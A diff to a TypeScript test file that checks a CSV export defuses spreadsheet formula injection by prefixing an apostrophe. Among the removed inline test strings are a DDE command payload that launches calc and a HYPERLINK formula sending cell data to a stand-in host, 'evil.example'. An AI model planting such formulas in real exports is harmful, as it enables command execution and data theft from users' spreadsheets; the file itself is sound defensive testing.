@@ -1,6 +1,7 @@
 import fc from 'fast-check';
 import { describe, expect, it, test } from 'vitest';
 import { toExcelCsv } from '@/utils/formats';
+import { FORMULAS, FORMULAS_AFTER_RETURN, FORMULAS_INSIDE, HARMLESS } from './formula-attacks';
 import { anyNote, noteWith, SECRET } from './notes';
 import { readCsv } from './read-csv';
 
@@ -58,45 +59,21 @@ it('says with each concern which of its two phrases was chosen', () => {
 });
 
 describe('what a spreadsheet would take for a formula', () => {
-  const attacks = [
-    '=1+1',
-    '+1',
-    '-2+3',
-    '@SUM(A1)',
-    "=cmd|' /C calc'!A0",
-    '=HYPERLINK("https://evil.example?x="&A1,"hier")',
-    '  =1',
-    '\u00A0=1',
-    '\u200B=1',
-    '\uFEFF=1',
-    '\u0000=1',
-    '\u3164=1',
-    '\uD800=1',
-    '\t=1',
-    '\tText',
-    '\nText',
-    '＝1',
-    '＋1',
-    '－1',
-    '＠SUM(A1)',
-    '﹦1',
-    '";=1+1;"',
-    '- Stichpunkt',
-  ];
-  test.each(attacks.filter((attack) => !attack.startsWith('"')))('%j stands with an apostrophe', (attack) => {
+  test.each(FORMULAS)('%j stands with an apostrophe', (attack) => {
     expect(commentCell(attack)).toBe(`'${attack}`);
   });
 
-  test.each(['\rText', '\r\n=1'])('%j stands with an apostrophe and its line break as LF', (attack) => {
+  test.each(FORMULAS_AFTER_RETURN)('%j stands with an apostrophe and its line break as LF', (attack) => {
     expect(commentCell(attack)).toBe(`'${attack.replace(/\r\n?/, '\n')}`);
   });
 
-  test.each(['";=1+1;"', '"\r\n=1', 'a;=1', 'a,=1', "'=1", 'a=1', '„=1“', 'E-Mail', '1-2'])(
-    '%j stays in its cell',
-    (text) => {
-      expect(commentCell(text)).toBe(text.replace('\r\n', '\n'));
-    },
-  );
+  test.each(FORMULAS_INSIDE)('%j would be one for another separator, and stands as %j', (attack, written) => {
+    expect(commentCell(attack)).toBe(written);
+  });
+
+  test.each(HARMLESS)('%j stays as it is', (text) => {
+    expect(commentCell(text)).toBe(text);
+  });
 
   it('is defused in every column', () => {
     const evil = '=1';
@@ -131,8 +108,8 @@ it('reads back cell by cell, whatever is written', () => {
       const comments = kept.map((note) =>
         [note.comment, ...(note.alternatives.comment ?? [])].filter(Boolean).join('\n'),
       );
-      expect(rows.slice(1).map((row) => row[COMMENT]?.replace(/^'/, ''))).toEqual(
-        comments.map((comment) => comment.replace(/\r\n?/g, '\n').replace(/^'/, '')),
+      expect(rows.slice(1).map((row) => row[COMMENT]?.replaceAll("'", ''))).toEqual(
+        comments.map((comment) => comment.replace(/\r\n?/g, '\n').replaceAll("'", '')),
       );
     }),
   );
